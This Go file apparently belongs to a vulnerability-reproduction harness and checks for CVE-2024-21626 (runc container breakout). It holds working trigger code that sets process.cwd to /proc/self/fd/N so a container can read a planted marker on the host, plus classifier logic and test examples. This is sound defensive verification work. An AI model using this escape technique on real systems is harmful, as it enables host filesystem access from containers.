package runcbugs

import (
	"context"
	"fmt"
	"strings"

	specs "github.com/opencontainers/runtime-spec/specs-go"

	"github.com/relapse-dev/relapse/harness/kit"
	"github.com/relapse-dev/relapse/harness/report"
)

// CVE-2024-21626 ("Leaky Vessels"): runc up to 1.1.11 leaks a directory
// fd of the host (/sys/fs/cgroup) into runc init, which chdirs to
// process.cwd before it execs the container's process: with
// process.cwd = /proc/self/fd/N that process starts with its working
// directory on the host. The trigger proves it by reading a marker relapse
// planted in the run's own directory, outside the container's root,
// through a relative path from that working directory; nothing else of
// the host is read or written.
func init() { kit.Register(cve202421626) }

// leakedFDs are the descriptors tried as the working directory: which one
// the leaked handle gets depends on runc's opening order (7 here and
// under Docker); runc init holds no descriptor above 8 here.
var leakedFDs = []int{3, 4, 5, 6, 7, 8}

// breakoutRefused is what 1.1.12's check after chdir says.
const breakoutRefused = "possible container breakout detected"

var cve202421626 = &kit.Bug{
	ID:       "CVE-2024-21626",
	Fix:      []string{"runc@02120488"},
	Advisory: "https://github.com/opencontainers/runc/security/advisories/GHSA-xr7r-f8xq-vfvv",
	Title:    "runc up to 1.1.11 leaks a host directory fd into runc init: process.cwd=/proc/self/fd/N starts the container's process in the host's filesystem",
	Summary: "runc 1.1.11 and earlier open the host's /sys/fs/cgroup and keep the descriptor open into runc init, which chdirs to " +
		"process.cwd before it execs the container's process. With process.cwd set to /proc/self/fd/N (N the leaked descriptor) " +
		"the process starts with a working directory in the host's mount namespace and reaches the whole host filesystem through " +
		"relative paths (GHSA-xr7r-f8xq-vfvv, attack 1). runc 1.1.12 closes the leaked descriptors (O_CLOEXEC, and every " +
		"descriptor above stdio is closed before the exec) and refuses a working directory outside the container's root " +
		"(\"current working directory is outside of container mount namespace root -- possible container breakout detected\").",
	Links: []report.Link{
		{Title: "runc 1.1.12 release notes (the fix)", URL: "https://github.com/opencontainers/runc/releases/tag/v1.1.12"},
		{Title: "opencontainers/runc@02120488: init: verify after chdir that cwd is inside the container", URL: "https://github.com/opencontainers/runc/commit/02120488a4c0fc487d1ed2867e901eeed7ce8ecf"},
	},
	Component:    "runc",
	LastAffected: "1.1.11",
	FirstFixed:   "1.1.12",
	Sampling: report.Sampling{Deterministic: true,
		Why:   "the leaked descriptor is opened the same way on every start: one container per candidate descriptor decides",
		Fresh: "a control and one container per candidate descriptor (3 to 8) in a fresh runc state root, a fresh marker (~3 s)"},
	Control:  func(ctx context.Context, r *kit.Run) (kit.Observation, error) { return reach(ctx, r, nil) },
	Trigger:  func(ctx context.Context, r *kit.Run) (kit.Observation, error) { return reach(ctx, r, leakedFDs) },
	Classify: classify,
	Examples: cve202421626Examples(),
}

// reach plants a marker and starts containers that try to read it through
// a relative path: from "/" (the control, fds nil) and from
// /proc/self/fd/N for each fd (the trigger), until one reads it.
func reach(ctx context.Context, r *kit.Run, fds []int) (kit.Observation, error) {
	marker, token, err := r.Plant(ctx, "cve-2024-21626")
	if err != nil {
		return kit.Observation{}, err
	}
	// Enough ".." to reach / from the leaked directory (/sys/fs/cgroup, or
	// a cgroup below it), then the marker.
	rel := strings.Repeat("../", 5) + strings.TrimPrefix(marker, "/")
	try := func(name, cwd, label string) (kit.Container, error) {
		return r.Container(ctx, name, label, []string{"read=" + rel},
			func(s *specs.Spec) { s.Process.Cwd = cwd })
	}
	if fds == nil {
		c, err := try("control", "/", "control, cwd /")
		c.Facts = map[string]string{"marker": markerSeen(c, rel, token)}
		return c.Observation, err
	}
	obs := kit.Observation{Facts: map[string]string{}}
	var tries []string
	reached := 0
	for _, fd := range fds {
		cwd := fmt.Sprintf("/proc/self/fd/%d", fd)
		c, err := try(fmt.Sprintf("fd%d", fd), cwd, fmt.Sprintf("trigger, cwd fd %d", fd))
		if err != nil {
			return obs, err
		}
		seen := markerSeen(c, rel, token)
		// Started, refused, or failed at the cwd itself (runc init's mkdir
		// or chdir of it names it): runc init got as far as the cwd.
		complaint := c.Complaint()
		if c.Ran || strings.Contains(complaint, breakoutRefused) || strings.Contains(complaint, cwd+":") {
			reached++
		}
		tries = append(tries, fmt.Sprintf("%s: %s", cwd, seen))
		if c.Ran {
			obs.Ran = true
		}
		if strings.Contains(complaint, breakoutRefused) {
			obs.Facts["refused"] = cwd
			obs.Said = c.Said
		}
		if seen == "read" {
			obs.Facts["marker"], obs.Facts["via"], obs.Facts["cwd"] = "read", cwd, c.Init.Cwd
			break
		}
	}
	obs.Facts["tries"] = strings.Join(tries, "\n")
	obs.Facts["reached"] = fmt.Sprint(reached)
	return obs, nil
}

// markerSeen says what a container made of the marker: "read" when it
// printed the token, otherwise why not.
func markerSeen(c kit.Container, rel, token string) string {
	switch got, ok := c.Init.Reads[rel]; {
	case !c.Ran:
		return "did not start: " + c.Complaint()
	case ok && strings.TrimSpace(got) == token:
		return "read"
	case ok:
		return "not read (" + got + ")"
	}
	return "the init did not report the read"
}

// classify: REPRODUCED when a container started from a leaked descriptor
// read the marker outside its root; NOT REPRODUCED when runc reached the
// working directory for some descriptor and none read it.
func classify(control, trigger kit.Observation) kit.Verdict {
	if control.Fact("marker") == "read" {
		return kit.Verdict{Result: report.Inconclusive, Reason: "the control container read the marker from process.cwd=/: the path does not need the leak, so the trigger would prove nothing"}
	}
	if trigger.Fact("marker") == "read" {
		via := trigger.Fact("via")
		return kit.Verdict{Result: report.Reproduced, Kind: "host-fs-through-leaked-fd",
			Reason: fmt.Sprintf("a container started with process.cwd=%s read the marker relapse planted outside its root: its working directory was on the host", via),
			Reasons: []string{
				"the control (process.cwd=/, the same relative path) could not read the marker: " + control.Fact("marker"),
				fmt.Sprintf("with process.cwd=%s the container's init read the marker's random token through a relative path", via),
				"the container's getcwd(2) there: " + trigger.Fact("cwd"),
				"the descriptors tried before it are in the evidence \"trigger: tries\"",
			}}
	}
	if trigger.Fact("reached") == "0" {
		return kit.Verdict{Result: report.Inconclusive, Reason: "no trigger container got as far as its working directory (evidence \"trigger: tries\" says what runc said)"}
	}
	reason := fmt.Sprintf("no container started from /proc/self/fd/%d..%d reached the marker outside its root", leakedFDs[0], leakedFDs[len(leakedFDs)-1])
	if via := trigger.Fact("refused"); via != "" {
		return kit.Verdict{Result: report.NotReproduced, Reason: reason + fmt.Sprintf("; runc refused process.cwd=%s: %q", via, breakoutRefused)}
	}
	return kit.Verdict{Result: report.NotReproduced, Reason: reason + ": no host directory leaked into runc init"}
}

// cve202421626Examples is the verdict table Classify must reach (the unit tests run it).
func cve202421626Examples() []kit.Example {
	control := kit.Ran("marker", "not read (error: no such file or directory)")
	return []kit.Example{
		kit.Expect("the marker read through fd 7", control, kit.Ran("marker", "read", "via", "/proc/self/fd/7", "reached", "5"),
			report.Reproduced, "process.cwd=/proc/self/fd/7 read the marker"),
		kit.Expect("every fd refused at its mkdir", control, kit.Observation{Facts: map[string]string{"reached": "8", "tries": "/proc/self/fd/3: did not start: mkdir /proc/self/fd/3: not a directory"}},
			report.NotReproduced, "no container started from /proc/self/fd/3..8"),
		kit.Expect("the breakout check refused", control, kit.Observation{Facts: map[string]string{"reached": "1", "refused": "/proc/self/fd/7"}},
			report.NotReproduced, "runc refused process.cwd=/proc/self/fd/7"),
		kit.Expect("nothing got to the cwd", control, kit.Observation{Facts: map[string]string{"reached": "0", "tries": "/proc/self/fd/3: did not start: permission denied"}},
			report.Inconclusive, "no trigger container got as far as its working directory"),
		kit.Expect("the control read it too", kit.Ran("marker", "read"), kit.Observation{Facts: map[string]string{"marker": "read"}},
			report.Inconclusive, "the control container read the marker"),
	}
}
